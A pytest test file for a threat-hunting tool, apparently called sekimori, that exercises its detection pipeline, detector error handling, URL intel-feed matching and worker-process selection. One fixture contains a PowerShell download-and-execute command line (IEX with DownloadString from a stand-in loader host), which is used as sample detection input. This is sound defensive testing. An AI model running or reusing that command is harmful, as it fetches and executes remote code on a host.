"""The hunt pipeline: every file read or reported, detectors run, findings correlated."""

from __future__ import annotations

from pathlib import Path
from typing import Any, ClassVar

import polars as pl
import pytest

from sekimori import pipeline
from sekimori.detect.base import Detector
from sekimori.detect.sigma import launch
from sekimori.model import EventBatch, Finding, Severity
from sekimori.pipeline import HuntOptions, run_hunt


class EveryBatchDetector(Detector):
    """Reports one finding per batch, and one at the end of the run."""

    name: ClassVar[str] = "every-batch"

    def new_state(self) -> Any:
        return {"batches": 0}

    def detect(self, batch: EventBatch, state: Any) -> list[Finding]:
        state["batches"] += 1
        row = batch.frame.row(0, named=True)
        return [
            Finding(
                timestamp=row["@timestamp"],
                host_name=row["host.name"],
                rule_id="every-batch",
                rule_name="Every batch",
                ruleset="test",
                severity=Severity.LOW,
                event_id=str(row["event.id"]),
                log_file_path=batch.path,
            )
        ]

    def finish(self, state: Any) -> list[Finding]:
        assert state["batches"] >= 1
        return []


class BrokenDetector(Detector):
    """Fails on every batch: the run must go on without it."""

    name: ClassVar[str] = "broken"

    def detect(self, batch: EventBatch, state: Any) -> list[Finding]:
        raise ValueError("cannot cope")


def process_creation(event_data: dict[str, str]) -> dict[str, Any]:
    """A Sysmon process creation on WS-07, as evtx JSON."""
    system = {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
        "EventID": 1,
        "EventRecordID": 7,
        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T00:14:03Z"}},
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "WS-07",
    }
    return {"Event": {"System": system, "EventData": event_data}}


@pytest.fixture
def detectors(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        pipeline,
        "DETECTOR_FACTORIES",
        [lambda options, setup: ([BrokenDetector(), EveryBatchDetector()], ["a note"])],
    )


def test_missing_and_unknown_files_are_reported_and_the_rest_processed(
    tmp_path: Path, detectors: None
) -> None:
    unknown = tmp_path / "notes.bin"
    unknown.write_bytes(b"\x00\x01 not a log")
    result = run_hunt([tmp_path / "absent", unknown], HuntOptions())
    errors = {Path(r.path).name: r.error for r in result.reports}
    assert errors["absent"] == "no such file or folder"
    assert errors["notes.bin"] == "not a recognized log, event or mail format"
    assert "a note" in result.notes
    assert list(result.findings) == []


def test_runner_captures_a_broken_detector() -> None:
    from datetime import UTC, datetime

    from sekimori.detect.runner import DetectorRun, run_all

    frame = pl.DataFrame(
        {
            "@timestamp": [datetime(2026, 11, 24, tzinfo=UTC)],
            "host.name": ["WS-01"],
            "event.id": ["1"],
        }
    )
    runs = [DetectorRun.start(BrokenDetector()), DetectorRun.start(EveryBatchDetector())]
    found = run_all(runs, EventBatch("windows", frame, path="a.json"))
    found += run_all(runs, EventBatch("windows", frame, path="b.json"))
    assert [f.rule_id for f in found] == ["every-batch", "every-batch"]
    assert len(runs[0].errors) == 1  # reported once per kind of error
    assert "ValueError: cannot cope" in runs[0].errors[0]
    assert run_all(runs, EventBatch("windows", frame.clear())) == []


def test_decoded_urls_are_matched_against_the_feeds(tmp_path: Path) -> None:
    """A URL named by an endpoint rule is an intel finding; one seen on the wire is not doubled."""
    import json

    feed = tmp_path / "urlhaus.txt"
    feed.write_text("http://loader.invalid/a/\n")
    rule_dir = Path(__file__).resolve().parent / "data" / "cli" / "rules"
    event = process_creation(
        {
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString("
            "'http://loader.invalid/a/')",
        }
    )
    log = tmp_path / "ws-07.json"
    log.write_text(json.dumps(event) + "\n")
    result = run_hunt(
        [log], HuntOptions(rule_dirs=[rule_dir], use_default_rules=False, intel_files=[feed])
    )
    intel = [f for f in result.findings if f.ruleset == "sekimori-intel"]
    assert [(f.host_name, f.rule_id) for f in intel] == [("WS-07", "intel.url")]
    assert "Office application spawns PowerShell" in intel[0].rule_name
    assert len(result.incidents) == 1


def test_total_size_counts_the_files_a_hunt_reads(tmp_path: Path) -> None:
    from sekimori.pipeline import total_size

    (tmp_path / "a.log").write_bytes(b"x" * 10)
    (tmp_path / ".hidden").write_bytes(b"x" * 100)
    assert total_size([tmp_path, tmp_path / "absent"]) == 10


def test_the_sigma_engine_in_a_worker_finds_the_same(tmp_path: Path) -> None:
    """The demo day hunted with the Sigma engine in a worker process and without."""
    from sekimori.demo.generate import write_demo_data

    manifest = write_demo_data(tmp_path / "day")
    inputs = list(manifest.inputs)
    alone = run_hunt(inputs, HuntOptions(parallel=False, batch_size=2_000))
    beside = run_hunt(inputs, HuntOptions(parallel=True, batch_size=2_000))
    assert [f.id for f in beside.findings] == [f.id for f in alone.findings]
    assert [(i.id, i.severity, i.score, i.finding_count) for i in beside.incidents] == [
        (i.id, i.severity, i.score, i.finding_count) for i in alone.incidents
    ]
    assert sorted(beside.notes) == sorted(alone.notes)
    # The bundled pack is Sigma: its findings came out of the worker.
    assert any(f.ruleset == "sekimori" for f in beside.findings)


def test_the_worker_is_chosen_for_large_inputs_and_rule_sets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = tmp_path / "big.jsonl"
    big.write_bytes(b"x" * 2_000)
    rules = tmp_path / "rules"
    rules.mkdir()
    for n in range(3):
        (rules / f"r{n}.yml").write_text("title: r\n")
    monkeypatch.setattr(launch, "PARALLEL_MIN_BYTES", 1_000)
    monkeypatch.setattr(launch, "PARALLEL_MIN_RULES", 3)
    monkeypatch.setattr(launch.os, "sched_getaffinity", lambda _pid: {0, 1}, raising=False)
    assert launch.wants_worker([big], [rules], None)
    # the bundled pack alone, too little input, one CPU, or the user's word
    assert not launch.wants_worker([big], [], None)
    monkeypatch.setattr(launch, "PARALLEL_MIN_BYTES", 10_000)
    assert not launch.wants_worker([big], [rules], None)
    assert launch.wants_worker([big], [rules], True)
    # a folder counts its files, hidden ones left out as the hunt leaves them
    (tmp_path / "logs").mkdir()
    for n in range(6):
        (tmp_path / "logs" / f"{'.' if n == 5 else ''}part{n}.jsonl").write_bytes(b"x" * 2_000)
    assert launch.wants_worker([tmp_path / "logs"], [rules], None)
    assert not launch.wants_worker([tmp_path / "logs" / "part0.jsonl", big], [rules], None)
    monkeypatch.setattr(launch, "PARALLEL_MIN_BYTES", 1_000)
    # a rules folder that does not exist: the engine, built in the hunt's process, says so
    assert not launch.wants_worker([big], [tmp_path / "absent"], None)
    assert launch.start_worker([big], [tmp_path / "absent"], True, None, 100) is None
    monkeypatch.setattr(launch.os, "sched_getaffinity", lambda _pid: {0}, raising=False)
    assert not launch.wants_worker([big], [rules], None)


def test_files_whose_names_are_not_utf8_are_read(tmp_path: Path) -> None:
    """Their events and findings name them with ``\\xNN``; a message is read again to be scanned."""
    import json
    import os

    from sekimori.samples.mail import emotet_invoice_mail

    event = process_creation({"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd"})
    folder = os.fsencode(tmp_path)
    with open(folder + b"/ws\xff.json", "w") as fh:
        fh.write(json.dumps(event) + "\n")
    with open(folder + b"/\x93\xbf.eml", "wb") as fh:  # a Shift_JIS name
        fh.write(emotet_invoice_mail())
    result = run_hunt([tmp_path], HuntOptions(parallel=False))
    assert sorted((Path(r.path).name, r.events, r.error) for r in result.reports) == [
        ("\\x93\\xbf.eml", 1, None),
        ("ws\\xff.json", 1, None),
    ]
    mail = [f for f in result.findings if f.log_file_path and f.log_file_path.endswith(".eml")]
    assert mail and all(f.log_file_path.endswith("/\\x93\\xbf.eml") for f in mail)
